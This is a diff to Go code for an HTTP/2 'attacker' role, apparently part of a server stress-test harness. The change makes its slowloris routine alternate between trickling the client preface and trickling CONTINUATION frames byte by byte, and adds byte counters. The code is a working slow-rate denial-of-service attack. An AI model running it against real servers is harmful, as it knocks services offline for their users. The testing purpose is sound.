@@ -25,9 +25,11 @@ import (
 // attackConns is how many connections an attacker holds at any time.
 const attackConns = 8
 
-// loot is what an attacker did, printed at its end.
+// loot is what an attacker did, printed at its end. Prefaces and Headers are the
+// bytes of each that were trickled.
 type loot struct {
 	Frames, Bytes, Connections int64
+	Prefaces, Headers          int64
 }
 
 // attacker is a role: the kind, the address, the time as of
@@ -47,10 +49,10 @@ func attacker(args []string) error {
 	defer cancel()
 	var did loot
 	var all sync.WaitGroup
-	for range attackConns {
+	for worker := range attackConns {
 		all.Go(func() {
 			for ctx.Err() == nil {
-				did.strike(ctx, args[1], attack)
+				did.strike(ctx, worker, args[1], attack)
 			}
 		})
 	}
@@ -59,7 +61,7 @@ func attacker(args []string) error {
 }
 
 // strike attacks over one connection until it breaks or the time is over.
-func (l *loot) strike(ctx context.Context, address string, attack func(*enemy) error) {
+func (l *loot) strike(ctx context.Context, worker int, address string, attack func(*enemy) error) {
 	conn, err := (&net.Dialer{}).DialContext(ctx, "tcp", address)
 	if err != nil {
 		return
@@ -67,7 +69,7 @@ func (l *loot) strike(ctx context.Context, address string, attack func(*enemy) e
 	atomic.AddInt64(&l.Connections, 1)
 	defer context.AfterFunc(ctx, func() { _ = conn.Close() })()
 	defer func() { _ = conn.Close() }()
-	e := &enemy{ctx: ctx, conn: conn, out: bufio.NewWriterSize(counted{conn, &l.Bytes}, 32<<10), frames: &l.Frames}
+	e := &enemy{ctx: ctx, worker: worker, conn: conn, out: bufio.NewWriterSize(counted{conn, &l.Bytes}, 32<<10), loot: l}
 	e.Framer = http2.NewFramer(e.out, nil)
 	e.AllowIllegalWrites = true
 	e.hpack = hpack.NewEncoder(&e.block)
@@ -91,9 +93,10 @@ func (c counted) Write(p []byte) (int, error) {
 type enemy struct {
 	*http2.Framer
 	ctx    context.Context
+	worker int // below attackConns
 	conn   net.Conn
 	out    *bufio.Writer
-	frames *int64
+	loot   *loot
 	round  int // rounds so far
 	stream uint32
 	hpack  *hpack.Encoder
@@ -129,7 +132,7 @@ func (e *enemy) headers(path string, more ...hpack.HeaderField) []byte {
 // open begins a call with the given header block.
 func (e *enemy) open(block []byte, endStream, endHeaders bool) error {
 	e.stream += 2
-	atomic.AddInt64(e.frames, 1)
+	atomic.AddInt64(&e.loot.Frames, 1)
 	return e.WriteHeaders(http2.HeadersFrameParam{
 		StreamID: e.stream - 1, BlockFragment: block, EndStream: endStream, EndHeaders: endHeaders,
 	})
@@ -140,7 +143,7 @@ func (e *enemy) id() uint32 { return e.stream - 1 }
 
 // count counts a frame that was written.
 func (e *enemy) count(err error) error {
-	atomic.AddInt64(e.frames, 1)
+	atomic.AddInt64(&e.loot.Frames, 1)
 	return err
 }
 
@@ -273,10 +276,11 @@ func (e *enemy) call(path string, message []byte) error {
 	return e.count(e.WriteData(e.id(), true, append(prefix, message...)))
 }
 
-// slowloris sends its preface, or the headers of a call, byte by byte.
+// slowloris sends its preface, or on every other connection the headers of a
+// call, byte by byte.
 func slowloris(e *enemy) error {
-	if e.stream == 0 && e.conn.LocalAddr().(*net.TCPAddr).Port%2 == 0 {
-		return e.trickle([]byte(http2.ClientPreface))
+	if e.worker%2 == 0 {
+		return e.trickle([]byte(http2.ClientPreface), &e.loot.Prefaces)
 	}
 	if err := e.begin(); err != nil {
 		return err
@@ -284,10 +288,10 @@ func slowloris(e *enemy) error {
 	if err := e.open(e.headers(executePath), false, false); err != nil {
 		return err
 	}
-	return e.trickle(bytes.Repeat([]byte{0, 0, 1, byte(http2.FrameContinuation), 0, 0, 0, 0, 1, 0}, 20))
+	return e.trickle(bytes.Repeat([]byte{0, 0, 1, byte(http2.FrameContinuation), 0, 0, 0, 0, 1, 0}, 20), &e.loot.Headers)
 }
 
-func (e *enemy) trickle(text []byte) error {
+func (e *enemy) trickle(text []byte, sent *int64) error {
 	for _, b := range text {
 		if err := e.out.WriteByte(b); err != nil {
 			return err
@@ -295,6 +299,7 @@ func (e *enemy) trickle(text []byte) error {
 		if err := e.out.Flush(); err != nil {
 			return err
 		}
+		atomic.AddInt64(sent, 1)
 		if err := e.count(e.pause(500 * time.Millisecond)); err != nil {
 			return err
 		}
